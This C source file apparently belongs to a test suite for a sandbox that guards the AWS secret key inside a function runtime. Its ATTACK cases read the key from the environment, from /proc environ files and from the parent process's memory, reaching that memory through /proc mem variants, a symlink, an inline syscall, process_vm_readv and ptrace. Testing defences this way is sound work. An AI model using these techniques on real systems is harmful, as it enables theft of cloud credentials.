// Ways to the credentials of the runtime, from its own code and from its children.
#include "attack.h"

#include <signal.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>

#define NAME "AWS_SECRET_ACCESS_KEY="
// Length of the value that the runner gives.
#define VALUE_SIZE 40

static void say_variables_of(const char *path) {
  static char text[65536];
  int file = open(path, O_RDONLY);
  ssize_t count = file < 0 ? -1 : read(file, text, sizeof text - 1);
  if (count <= 0) {
    say("%s: %s\n", path, count < 0 ? strerror(errno) : "empty");
    return;
  }
  text[count] = 0;
  for (char *entry = text; entry < text + count; entry += strlen(entry) + 1) {
    if (strncmp(entry, NAME, sizeof NAME - 1) == 0)
      say("%s\n", entry);
  }
  close(file);
}

ATTACK(environment_of_process) {
  const char *value = getenv("AWS_SECRET_ACCESS_KEY");
  say("%s\n", value == NULL ? "absent" : value);
}

ATTACK(environment_file) { say_variables_of("/proc/self/environ"); }

ATTACK(environment_file_of_thread) { say_variables_of("/proc/thread-self/environ"); }

// What a fork of the runtime writes goes to the pipe, so that its own memory proves nothing.
static void print(const char *bytes, size_t count) {
  if (write(1, bytes, count) < 0)
    _exit(1);
}

static void environment_file_of_parent_body(void) {
  char path[64], text[65536];
  snprintf(path, sizeof path, "/proc/%d/environ", getppid());
  int file = open(path, O_RDONLY);
  ssize_t count = file < 0 ? -1 : read(file, text, sizeof text);
  if (count > 0)
    print(text, (size_t)count);
}

ATTACK(environment_file_of_parent) { in_child_reading_output(environment_file_of_parent_body); }

typedef ssize_t (*reader)(pid_t process, uintptr_t address, char *buffer, size_t count);

static int memory_of_parent;

static ssize_t read_memory_file(pid_t process, uintptr_t address, char *buffer, size_t count) {
  (void)process;
  return pread(memory_of_parent, buffer, count, (off_t)address);
}

static ssize_t read_across(pid_t process, uintptr_t address, char *buffer, size_t count) {
  struct iovec local = {buffer, count}, remote = {(void *)address, count};
  return process_vm_readv(process, &local, 1, &remote, 1, 0);
}

// Only what looks like the real value: a decoy beside it would be caught on its way out.
static int is_real(const char *value, size_t count) {
  for (size_t index = 0; index < VALUE_SIZE; index++) {
    if (index >= count || strchr("0123456789abcdef", value[index]) == NULL || value[index] == 0)
      return 0;
  }
  return 1;
}

// Enough for the proof; more than a pipe holds would wait for a reader that a tracer has stopped.
#define ENOUGH 16384

static size_t found;

static void search(const char *bytes, size_t count) {
  for (const char *hit = bytes;
       (hit = memmem(hit, count - (size_t)(hit - bytes), NAME, sizeof NAME - 1)) != NULL; hit++) {
    const char *value = hit + sizeof NAME - 1;
    if (found > ENOUGH || !is_real(value, count - (size_t)(value - bytes)))
      continue;
    print(value, VALUE_SIZE);
    found += VALUE_SIZE;
  }
}

// Searches what another process can write: stack, heap and the pages of whoever hides the values.
static void search_process(pid_t process, reader read_memory) {
  static char buffer[1 << 20];
  char path[64], line[512];
  snprintf(path, sizeof path, "/proc/%d/maps", process);
  FILE *maps = fopen(path, "r");
  while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
    unsigned long start, end;
    char permissions[5];
    if (sscanf(line, "%lx-%lx %4s", &start, &end, permissions) != 3 || permissions[0] != 'r')
      continue;
    if (end - start > (64UL << 20))
      continue;
    for (unsigned long address = start; address < end; address += sizeof buffer) {
      size_t wanted = end - address < sizeof buffer ? end - address : sizeof buffer;
      ssize_t count = read_memory(process, address, buffer, wanted);
      if (count > 0)
        search(buffer, (size_t)count);
    }
  }
}

static void memory_file_of_parent_body(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", getppid());
  memory_of_parent = open(path, O_RDONLY);
  if (memory_of_parent >= 0)
    search_process(getppid(), read_memory_file);
}

ATTACK(memory_file_of_parent) { in_child_reading_output(memory_file_of_parent_body); }

static void search_memory_by(const char *format) {
  char path[64];
  snprintf(path, sizeof path, format, getppid(), getppid());
  memory_of_parent = open(path, O_RDONLY);
  if (memory_of_parent >= 0)
    search_process(getppid(), read_memory_file);
}

static void memory_of_task_body(void) { search_memory_by("/proc/%d/task/%d/mem"); }

static void memory_by_directory_body(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d", getppid());
  memory_of_parent = openat(open(path, O_PATH | O_DIRECTORY), "mem", O_RDONLY);
  if (memory_of_parent >= 0)
    search_process(getppid(), read_memory_file);
}

static void memory_by_symlink_body(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", getppid());
  symlink(path, "/tmp/harmless");
  search_memory_by("/tmp/harmless");
}

ATTACK(memory_of_parent_task) { in_child_reading_output(memory_of_task_body); }
ATTACK(memory_of_parent_by_directory) { in_child_reading_output(memory_by_directory_body); }
ATTACK(memory_of_parent_by_symlink) { in_child_reading_output(memory_by_symlink_body); }

static void memory_by_inline_body(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", getppid());
  memory_of_parent = (int)inline_syscall(SYS_openat, AT_FDCWD, (long)path, O_RDONLY, 0, 0, 0);
  if (memory_of_parent >= 0)
    search_process(getppid(), read_memory_file);
}

ATTACK(memory_of_parent_inline) { in_child_reading_output(memory_by_inline_body); }

static void memory_of_parent_across_body(void) { search_process(getppid(), read_across); }

ATTACK(memory_of_parent_across) { in_child_reading_output(memory_of_parent_across_body); }

static void trace_parent_body(void) {
  char path[64];
  pid_t parent = getppid();
  if (ptrace(PTRACE_ATTACH, parent, NULL, NULL) != 0)
    return;
  waitpid(parent, NULL, 0);
  snprintf(path, sizeof path, "/proc/%d/mem", parent);
  memory_of_parent = open(path, O_RDONLY);
  if (memory_of_parent >= 0)
    search_process(parent, read_memory_file);
  ptrace(PTRACE_DETACH, parent, NULL, NULL);
}

// The tracer must not be waited for while it holds its parent, so its output is read by the parent
// afterwards.
ATTACK(trace_parent) { in_child_reading_output(trace_parent_body); }

// The same by a static program of the function's own, in which there are no hooks.
static void static_reader_body(void) {
  char *arguments[] = {"/var/task/bin/static-reader", NULL};
  execve(arguments[0], arguments, environ);
}

ATTACK(static_reader_of_parent) { in_child_reading_output(static_reader_body); }
